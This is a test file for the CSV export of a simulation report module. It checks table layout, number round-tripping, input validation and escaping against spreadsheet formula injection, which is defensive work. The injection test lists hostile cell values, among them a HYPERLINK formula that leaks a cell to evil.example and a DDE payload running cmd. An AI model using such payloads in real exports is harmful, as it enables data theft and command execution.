import { csvParse, csvParseRows } from 'd3-dsv';
import { describe, expect, it } from 'vitest';
import { DibsimError } from '../../../src/errors.js';
import { reportTables, tableToCsv } from '../../../src/report/tables.js';
import { reportInput } from './fixture.js';

describe('reportTables', () => {
  it('reportTables(input) lists the KPI table first, then paired, censored, series and tornado tables', async () => {
    const tables = reportTables(await reportInput());
    expect(tables.map((t) => t.name)).toEqual([
      'kpis',
      'paired-vs-baseline',
      'paired-all-pairs',
      'censored',
      'series',
      'tornado',
    ]);
    expect(tables[0]!.columns.slice(0, 12)).toEqual([
      'kpi',
      'strategy',
      'mean',
      'lower',
      'upper',
      'halfWidth',
      'n',
      'p05',
      'p25',
      'p50',
      'p75',
      'p95',
    ]);
    for (const t of tables) for (const row of t.rows) expect(row).toHaveLength(t.columns.length);
  });

  it('the KPI table holds each KPI per strategy with its statistics; censored events have their own table', async () => {
    const input = await reportInput();
    const [kpis, , , censored] = reportTables(input);
    const fill = kpis!.rows.find((r) => r[0] === 'fillRate' && r[1] === 'partial')!;
    const summary = input.result.strategies[1]!.kpis.fillRate!;
    expect(fill.slice(2, 7)).toEqual([
      summary.mean,
      summary.lower,
      summary.upper,
      summary.halfWidth,
      summary.n,
    ]);
    expect(kpis!.rows.some((r) => String(r[0]).endsWith('.reached'))).toBe(false);
    const met = censored!.rows.find((r) => r[0] === 'pledges.p1.met' && r[1] === 'national')!;
    const c = input.result.strategies[0]!.censored['pledges.p1.met']!;
    expect(met.slice(2, 5)).toEqual([c.n, c.reached, c.fractionReached]);
  });

  it('the series table has one row per strategy, series and sample date', async () => {
    const input = await reportInput();
    const series = reportTables(input).find((t) => t.name === 'series')!;
    const s = input.result.strategies[0]!;
    const expected = Object.values(s.series).reduce((n, x) => n + x.dates.length, 0) * 2;
    expect(series.rows).toHaveLength(expected);
    expect(series.rows[0]!.slice(0, 3)).toEqual([
      'national',
      Object.keys(s.series)[0],
      s.series[Object.keys(s.series)[0]!]!.dates[0],
    ]);
  });
});

describe('tableToCsv', () => {
  it('tableToCsv quotes commas, quotes and newlines so that csvParse reads the cells back', () => {
    const table = {
      name: 't',
      columns: ['name', 'value', 'missing'],
      rows: [
        ['a, "b"\nc', 0.1 + 0.2, null],
        ['plain', -1e-300, 1234567890.123456],
      ],
    };
    const text = tableToCsv(table);
    const parsed = csvParse(text);
    expect(parsed.columns).toEqual(['name', 'value', 'missing']);
    expect(parsed[0]).toEqual({ name: 'a, "b"\nc', value: '0.30000000000000004', missing: '' });
    expect(Number(parsed[1]!.value)).toBe(-1e-300);
    expect(Number(parsed[1]!.missing)).toBe(1234567890.123456);
  });

  it('tableToCsv(report table) round-trips every number of the KPI table exactly', async () => {
    const [kpis] = reportTables(await reportInput());
    const rows = csvParseRows(tableToCsv(kpis!)).slice(1);
    rows.forEach((row, i) => {
      kpis!.rows[i]!.forEach((cell, j) => {
        if (typeof cell === 'number') expect(Number(row[j])).toBe(cell);
        else expect(row[j]).toBe(cell ?? '');
      });
    });
  });

  it('tableToCsv(report table) writes every cell of every report table as it is, with no quote added', async () => {
    for (const table of reportTables(await reportInput())) {
      const [header, ...rows] = csvParseRows(tableToCsv(table));
      expect(header).toEqual(table.columns);
      expect(rows).toEqual(
        table.rows.map((row) => row.map((c) => (c === null ? '' : typeof c === 'number' ? String(c) : c))),
      );
    }
  });

  it('tableToCsv puts a quote before text a spreadsheet would run as a formula (CSV injection)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "-2+3+cmd|' /C calc'!A0",
      '+1+1',
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
      '-1 -2',
      '-1e3+1',
      '-',
      '-Infinity',
    ];
    const table = {
      name: 't',
      columns: ['strategy', '=lever'],
      rows: hostile.map((name) => [name, 1]),
    };
    const [header, ...rows] = csvParseRows(tableToCsv(table));
    expect(header).toEqual(['strategy', "'=lever"]);
    expect(rows.map((r) => r[0])).toEqual(hostile.map((name) => `'${name}`));
  });

  it('tableToCsv leaves numbers, numeric text such as "-1.5" or "-2.4 [-3.0, -1.7]", and other names alone', () => {
    const inert = [
      '-1.5',
      '+2e-3',
      '-12%',
      '-.5',
      '-2.4 [-3.0, -1.7]',
      '-2.4 (-3.0; -1.7)',
      'national-only',
      'national-only->pooled@2025-06-01',
      '2025-01-01',
      'pledges.p1.met',
      ' =not at the start',
      '',
    ];
    const table = { name: 't', columns: ['text', 'number'], rows: inert.map((t) => [t, -1.5]) };
    const rows = csvParseRows(tableToCsv(table)).slice(1);
    expect(rows).toEqual(inert.map((t) => [t, '-1.5']));
  });

  it('tableToCsv(not a table) throws INVALID_ARGUMENT naming the field, not a TypeError or a ragged CSV', () => {
    const thrown = (table: unknown) => {
      try {
        tableToCsv(table as Parameters<typeof tableToCsv>[0]);
      } catch (e) {
        expect(e).toBeInstanceOf(DibsimError);
        expect((e as DibsimError).code).toBe('INVALID_ARGUMENT');
        return (e as DibsimError).message;
      }
      return 'no error';
    };
    const fix = 'Pass a table from reportTables(input), or { columns, rows }.';
    expect(thrown({})).toBe(
      `tableToCsv: table.columns must be an array of column names (got undefined). ${fix}`,
    );
    expect(thrown(null)).toBe(`tableToCsv: table must be an object { columns, rows } (got null). ${fix}`);
    expect(thrown([['a']])).toMatch(/^tableToCsv: table must be an object/);
    expect(thrown({ columns: ['a', 2], rows: [] })).toBe(
      `tableToCsv: table.columns[1] must be a string (got 2). ${fix}`,
    );
    expect(thrown({ columns: ['a'], rows: 'x' })).toBe(
      `tableToCsv: table.rows must be an array of rows (got "x"). ${fix}`,
    );
    expect(thrown({ columns: ['a'], rows: [[1], 1] })).toBe(
      `tableToCsv: table.rows[1] must be an array of cells (got 1). ${fix}`,
    );
    expect(
      thrown({
        columns: ['a', 'b'],
        rows: [
          [1, 2],
          [1, 2],
          [1, 2],
          [1, 2, 3],
        ],
      }),
    ).toBe(
      `tableToCsv: table.rows[3] must have one cell per column: it has 3, table.columns has 2 (got [1,2,3]). ${fix}`,
    );
    expect(thrown({ columns: ['a', 'b'], rows: [['x']] })).toMatch(
      /table\.rows\[0\] must have one cell per column/,
    );
    expect(thrown({ columns: ['a', 'b'], rows: [[1, true]] })).toBe(
      `tableToCsv: table.rows[0][1] must be a string, a number or null (got true). ${fix}`,
    );
    expect(thrown({ columns: ['a'], rows: [[undefined]] })).toMatch(
      /table\.rows\[0\]\[0\] .*\(got undefined\)/,
    );
    expect(thrown({ columns: ['a'], rows: [[{ x: 1 }]] })).toMatch(
      /table\.rows\[0\]\[0\] .*\(got \{"x":1\}\)/,
    );
    // { columns, rows } without a name is a table too.
    expect(tableToCsv({ columns: ['a'], rows: [[1]] } as never)).toBe('a\n1\n');
  });
});
